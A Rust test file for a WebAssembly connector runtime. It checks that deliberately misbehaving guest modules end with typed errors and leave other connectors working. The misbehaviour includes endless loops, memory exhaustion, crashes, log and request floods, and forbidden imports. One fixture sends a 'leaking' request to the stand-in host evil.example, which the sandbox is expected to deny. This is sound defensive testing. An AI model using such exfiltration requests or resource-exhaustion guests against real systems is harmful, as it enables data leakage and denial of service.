//! Connectors that load and then misbehave: each call ends with a typed error, and the next call
//! of any connector works.

use std::sync::{
    Arc,
    atomic::{AtomicU32, Ordering},
};

use jackfield::runtime::{CallError, Failure, Incoming, LogLevel, Rejection};
use tokio::{
    io::{AsyncBufReadExt, AsyncWriteExt, BufReader},
    net::TcpListener,
};

use crate::{
    guest::{Guest, good, manifest},
    house::{House, context, slug},
    log,
};

/// Loads the guest beside a good one.
async fn beside_a_good_one(guest: &Guest) -> House {
    let house = House::new();
    house.put("good.wasm", &good("good", "[1]").bytes());
    house.put("bad.wasm", &guest.bytes());
    house.runtime.scan().await;
    assert!(
        house.version("bad").is_some(),
        "refused: {:?}",
        house.refusal("bad.wasm")
    );
    house
}

/// What becomes of a call of `unify`.
async fn unify(guest: Guest) -> Result<String, CallError> {
    let house = beside_a_good_one(&guest).await;
    let answer = house.unify("bad").await;
    let next = house.unify("good").await;
    assert_eq!(next.expect("the next call works"), "[1]");
    answer
}

async fn code(guest: Guest) -> &'static str {
    match unify(guest).await {
        Ok(answer) => panic!("it answered {} bytes", answer.len()),
        Err(error) => error.code(),
    }
}

const ENDLESS: &str = "(loop $again (br $again)) unreachable";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endless_loop_is_stopped() {
    let looping = Guest {
        unify: ENDLESS,
        ..good("bad", "")
    };
    assert_eq!(code(looping).await, "connector_cpu_limit");
    let in_realloc = Guest {
        realloc: ENDLESS,
        ..good("bad", "")
    };
    assert_eq!(code(in_realloc).await, "connector_cpu_limit");
    let after_the_answer = Guest {
        functions: r#"(func (export "cabi_post_jackfield:connector/connector@0.1.0#unify") (param i32)
            (loop $again (br $again)))"#,
        ..good("bad", "[]")
    };
    assert_eq!(code(after_the_answer).await, "connector_cpu_limit");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn loops_on_every_thread_leave_others_their_turn() {
    let house = Arc::new(
        beside_a_good_one(&Guest {
            unify: ENDLESS,
            ..good("bad", "")
        })
        .await,
    );
    let loops: Vec<_> = (0..6)
        .map(|_| {
            let house = Arc::clone(&house);
            tokio::spawn(async move { house.unify("bad").await })
        })
        .collect();
    for _ in 0..20 {
        assert_eq!(house.unify("good").await.unwrap(), "[1]");
    }
    for looping in loops {
        assert_eq!(
            looping.await.unwrap().unwrap_err().code(),
            "connector_cpu_limit"
        );
    }
    let versions = house.status("bad").versions;
    assert_eq!((versions[0].traps, versions[0].running), (6, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn memory_has_an_end() {
    let growing = Guest {
        unify: "(loop $again (br_if $again (i32.ne (memory.grow (i32.const 16)) (i32.const -1)))) unreachable",
        ..good("bad", "")
    };
    assert_eq!(code(growing).await, "connector_memory_limit");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn crashes_are_crashes() {
    let crash = |unify| Guest {
        unify,
        ..good("bad", "")
    };
    assert_eq!(code(crash("unreachable")).await, "connector_crashed");
    assert_eq!(
        code(crash("(i32.div_u (i32.const 1) (i32.const 0))")).await,
        "connector_crashed"
    );
    assert_eq!(
        code(crash("(i32.load (i32.const -8))")).await,
        "connector_crashed"
    );
    let recursion = Guest {
        functions: "(func $deeper (param i64 i64) (result i64) (i64.add (call $deeper (local.get 1) (local.get 0)) (local.get 0)))",
        unify: "(i32.wrap_i64 (call $deeper (i64.const 1) (i64.const 2)))",
        ..good("bad", "")
    };
    assert_eq!(code(recursion).await, "connector_stack_limit");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn answers_that_are_none_are_crashes() {
    let outside = Guest {
        unify: "(i32.const -4)",
        ..good("bad", "")
    };
    assert_eq!(code(outside).await, "connector_crashed");
    let a_gigabyte = Guest {
        unify: "(i32.store (i32.const 1032) (i32.const 0x40000000)) (i32.const 1024)",
        ..good("bad", "")
    };
    assert_eq!(code(a_gigabyte).await, "connector_crashed");
    let not_text = Guest {
        unify: "(i32.store8 (i32.const 2048) (i32.const 0xff)) (i32.const 1024)",
        ..good("bad", "[]")
    };
    assert_eq!(code(not_text).await, "connector_crashed");
    let no_such_case = Guest {
        unify: "(i32.store8 (i32.const 1024) (i32.const 7)) (i32.const 1024)",
        ..good("bad", "[]")
    };
    assert_eq!(code(no_such_case).await, "connector_crashed");
    let memory_elsewhere = Guest {
        realloc: "(return (i32.const -16))",
        ..good("bad", "")
    };
    assert_eq!(code(memory_elsewhere).await, "connector_crashed");

    let accounts = Guest {
        authenticate: "(i32.store (i32.const 1160) (i32.const 0x40000000)) (i32.const 1152)"
            .to_owned(),
        ..good("bad", "")
    };
    let house = beside_a_good_one(&accounts).await;
    let version = house.version("bad").unwrap();
    let error = version.authenticate(context()).await.unwrap_err();
    assert_eq!(error.code(), "connector_crashed");
    assert_eq!(house.unify("good").await.unwrap(), "[1]");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_has_a_largest_size() {
    let long = good("bad", &" ".repeat(16 * 1024 + 1));
    assert_eq!(code(long).await, "connector_output_limit");
    let just_not = good("bad", &" ".repeat(16 * 1024));
    assert!(unify(just_not).await.is_ok());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_text_of_a_failure_is_cut() {
    // err(unexpected(text)): the cases at 1024 and 1028, the text at 1032.
    let talkative = Guest {
        unify: "(i32.store8 (i32.const 1024) (i32.const 1)) (i32.store8 (i32.const 1028) (i32.const 8))
            (i32.store (i32.const 1032) (i32.const 2048)) (i32.store (i32.const 1036) (i32.const 5000))
            (i32.const 1024)",
        ..good("bad", &"x".repeat(5000))
    };
    match unify(talkative).await {
        Err(CallError::Failure(Failure::Unexpected(text))) => assert_eq!(text, "x".repeat(1000)),
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mapping_reaches_nothing() {
    let clock = Guest {
        imports: r#"(import "jackfield:connector/clock@0.1.0" "now" (func $now (result i64)))"#,
        unify: "(drop (call $now)) (i32.const 1024)",
        ..good("bad", "[]")
    };
    match unify(clock).await {
        Err(CallError::Impure(name)) => assert_eq!(name, "clock.now"),
        other => panic!("{other:?}"),
    }
    let http = Guest {
        imports: SEND,
        functions: GET,
        unify: "(call $get) (i32.const 1024)",
        ..good("bad", "[]")
    };
    match unify(http).await {
        Err(CallError::Impure(name)) => assert_eq!(name, "http.send"),
        other => panic!("{other:?}"),
    }
    let secrets = Guest {
        imports: r#"(import "jackfield:connector/secrets@0.1.0" "names" (func $names (param i32)))"#,
        unify: "(call $names (i32.const 4096)) (i32.const 1024)",
        ..good("bad", "[]")
    };
    match unify(secrets).await {
        Err(CallError::Impure(name)) => assert_eq!(name, "secrets.names"),
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_webhook_is_read_without_sending_requests() {
    let webhooks = "[webhooks]\nroute = \"account\"\nsecret = \"operator\"";
    let house = beside_a_good_one(&Guest {
        manifest: format!("{}\n{webhooks}", manifest("bad", 16)),
        imports: SEND,
        functions: RECEIVE,
        ..good("bad", "[]")
    })
    .await;
    let request = Incoming {
        method: "POST".to_owned(),
        path: String::new(),
        url: "https://jackfield.example/inbound/bad".to_owned(),
        query: Vec::new(),
        headers: Vec::new(),
        body: Vec::new(),
        received_at: 0,
    };
    let version = house.version("bad").expect("it is active");
    let answer = version.receive(request, "secret".into()).await;
    match answer.expect("the guest answers") {
        Err(Rejection::Unsupported(text)) => {
            assert!(text.contains("without sending requests"), "{text}");
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_log_takes_a_hundred_short_lines_of_a_call() {
    log::keep();
    let flood = Guest {
        imports: r#"(import "jackfield:connector/log@0.1.0" "message" (func $log (param i32 i32 i32)))"#,
        unify: "(local $left i32)
            (local.set $left (i32.const 5000))
            (loop $again
              (call $log (i32.const 1) (i32.const 2048) (i32.const 4000))
              (local.set $left (i32.sub (local.get $left) (i32.const 1)))
              (br_if $again (local.get $left)))
            (i32.const 1024)",
        ..good("bad", &"y".repeat(4000))
    };
    let house = beside_a_good_one(&flood).await;
    assert!(house.unify("bad").await.is_ok());
    let live = |slug: &str| {
        let slug = slug.parse().expect("a slug");
        house.runtime.live_log(&slug, 0, LogLevel::Info)
    };
    let shown = live("bad");
    assert_eq!(shown.len(), 100);
    assert!(
        shown
            .iter()
            .all(|line| line.text.len() == 2048 && line.level == LogLevel::Info)
    );
    assert!(live("good").is_empty());
    let lines = log::lines("bad");
    let flooded: Vec<_> = lines.iter().filter(|line| line.starts_with("yy")).collect();
    assert_eq!(flooded.len(), 100);
    assert!(flooded.iter().all(|line| line.len() == 2048));
    let told = lines.iter().filter(|line| line.contains("further lines"));
    assert_eq!(told.count(), 1);
}

pub(crate) const SEND: &str = r#"(import "jackfield:connector/http@0.1.0" "send"
    (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))"#;

/// One request of `GET {api}/x`, without headers, body or credentials; the answer is at 8192.
pub(crate) const GET: &str = r#"(data (i32.const 4096) "GET{api}/xhttps://evil.example/x")
    (func $get
      (call $send (i32.const 4096) (i32.const 3) (i32.const 4099) (i32.const 7)
        (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
        (i32.const 8192)))"#;

/// `receive` that sends a request its manifest allows, and answers `err(unsupported(text))` with the
/// text of `err(denied(text))`; a crash where the request is not denied.
const RECEIVE: &str = r#"(data (i32.const 4096) "GET{api}/x")
    (func (export "jackfield:connector/webhooks@0.1.0#receive")
      (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i64) (result i32)
      (call $send (i32.const 4096) (i32.const 3) (i32.const 4099) (i32.const 7)
        (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
        (i32.const 8192))
      (if (i32.or (i32.ne (i32.load8_u (i32.const 8192)) (i32.const 1)) (i32.load8_u (i32.const 8200)))
        (then unreachable))
      (i32.store8 (i32.const 9216) (i32.const 1))
      (i32.store8 (i32.const 9220) (i32.const 2))
      (i32.store (i32.const 9224) (i32.load (i32.const 8208)))
      (i32.store (i32.const 9228) (i32.load (i32.const 8212)))
      (i32.const 9216))"#;

/// `err(unexpected(text))` of `err(denied(text))` at 8192; a crash where that is not what is there.
pub(crate) const TELL_DENIAL: &str = "
    (if (i32.or (i32.ne (i32.load8_u (i32.const 8192)) (i32.const 1)) (i32.load8_u (i32.const 8200))) (then unreachable))
    (i32.store8 (i32.const 1024) (i32.const 1)) (i32.store8 (i32.const 1028) (i32.const 8))
    (i32.store (i32.const 1032) (i32.load (i32.const 8208)))
    (i32.store (i32.const 1036) (i32.load (i32.const 8212)))
    (i32.const 1024)";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_sends_at_most_two_hundred_requests() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let served = Arc::new(AtomicU32::new(0));
    let server = tokio::spawn(serve(listener, Arc::clone(&served)));
    let flood = Guest {
        imports: SEND,
        functions: GET,
        authenticate: format!(
            "(local $left i32)
                (local.set $left (i32.const 300))
                (loop $again
                  (call $get)
                  (local.set $left (i32.sub (local.get $left) (i32.const 1)))
                  (br_if $again (local.get $left)))
                {TELL_DENIAL}"
        ),
        ..good("bad", "")
    };
    let house = House::with(|options| {
        let api = [("api".to_owned(), address)].into();
        options.endpoints.insert(slug("bad"), api);
    });
    house.put("bad.wasm", &flood.bytes());
    house.runtime.scan().await;
    let version = house.version("bad").unwrap();
    match version.authenticate(context()).await {
        Err(CallError::Failure(Failure::Unexpected(text))) => {
            assert_eq!(text, "one call may send 200 requests");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(served.load(Ordering::Relaxed), 200);
    server.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_outside_of_the_permissions_is_denied() {
    let leaking = Guest {
        imports: SEND,
        functions: GET,
        authenticate: format!(
                "(call $send (i32.const 4096) (i32.const 3) (i32.const 4106) (i32.const 22)
                  (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
                  (i32.const 8192))
                {TELL_DENIAL}"
        ),
        ..good("bad", "")
    };
    let house = beside_a_good_one(&leaking).await;
    let version = house.version("bad").unwrap();
    match version.authenticate(context()).await {
        Err(CallError::Failure(Failure::Unexpected(text))) => assert!(
            text.contains("https://evil.example/x is outside of the connector's permissions"),
            "{text}"
        ),
        other => panic!("{other:?}"),
    }
}

/// Answers every request with nothing, and counts them.
async fn serve(listener: TcpListener, served: Arc<AtomicU32>) {
    while let Ok((stream, _)) = listener.accept().await {
        let served = Arc::clone(&served);
        tokio::spawn(async move {
            let (reading, mut writing) = stream.into_split();
            let mut lines = BufReader::new(reading).lines();
            while let Ok(Some(line)) = lines.next_line().await {
                if line.is_empty() {
                    served.fetch_add(1, Ordering::Relaxed);
                    let answer = b"HTTP/1.1 204 No Content\r\n\r\n";
                    if writing.write_all(answer).await.is_err() {
                        return;
                    }
                }
            }
        });
    }
}
